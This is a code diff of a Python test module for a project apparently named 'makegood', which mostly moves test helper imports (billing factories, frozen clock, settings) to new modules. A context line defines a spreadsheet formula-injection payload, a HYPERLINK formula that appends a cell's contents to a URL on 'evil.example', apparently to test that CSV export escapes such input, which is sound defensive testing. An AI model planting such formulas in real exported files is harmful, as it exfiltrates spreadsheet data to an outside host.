@@ -13,9 +13,10 @@ from makegood.bootstrap import Container
 from makegood.cli.telemetry_cmds import _csv_rows
 from makegood.store.engine import make_engine
 from makegood.telemetry.cohort import compute_cohort
-from tests.conftest import FrozenClock, make_settings
+from tests.factories.billing import add_account, add_credit, add_plan
 from tests.factories.files import ATTEMPT_COLUMNS, attempt, write_csv
-from tests.integration.billing_seed import add_account, add_credit, add_plan
+from tests.harness.clock import FrozenClock
+from tests.harness.settings import make_settings
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
 GRANTED = datetime(2026, 3, 10, tzinfo=UTC)
